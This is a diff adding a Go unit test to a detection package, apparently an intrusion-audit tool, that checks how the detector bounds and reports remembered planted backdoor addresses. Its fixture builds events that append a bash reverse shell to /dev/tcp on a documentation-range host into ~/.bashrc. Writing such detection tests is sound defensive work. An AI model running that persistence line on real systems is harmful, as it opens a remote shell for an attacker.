@@ -2,6 +2,8 @@ package detect
 
 import (
 	"slices"
+	"strconv"
+	"strings"
 	"testing"
 
 	"github.com/auditchain/auditchain/parser"
@@ -80,5 +82,26 @@ func TestBackdoorCallback(t *testing.T) {
 	}
 	if len(f.Related) == 0 || f.Related[len(f.Related)-1].PID != 20 {
 		t.Errorf("the plant is not quoted beside the callback: %v", f.Related)
+	}
+}
+
+// TestPlantsBoundSaid: past plantedPeers addresses the oldest are
+// forgotten, and the report is told so.
+func TestPlantsBoundSaid(t *testing.T) {
+	e, err := New(Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if d := e.Dropped(); d != nil {
+		t.Fatalf("dropped before anything: %v", d)
+	}
+	p := &parser.Process{Key: parser.ProcKey{PID: 20}}
+	for i := 0; i < plantedPeers+10; i++ {
+		ev := &parser.Event{Kind: parser.KindExec, Args: []string{"sh", "-c", "echo 'bash -i >& /dev/tcp/198.51.100.7/" + strconv.Itoa(1000+i) + " 0>&1' >> ~/.bashrc"}}
+		e.state.notePlant(&Finding{Stage: StagePersistence, Event: ev, Process: p})
+	}
+	d := e.Dropped()
+	if len(d) != 1 || !strings.Contains(d[0], "10 addresses") {
+		t.Errorf("dropped notes %q, want 10 addresses forgotten", d)
 	}
 }
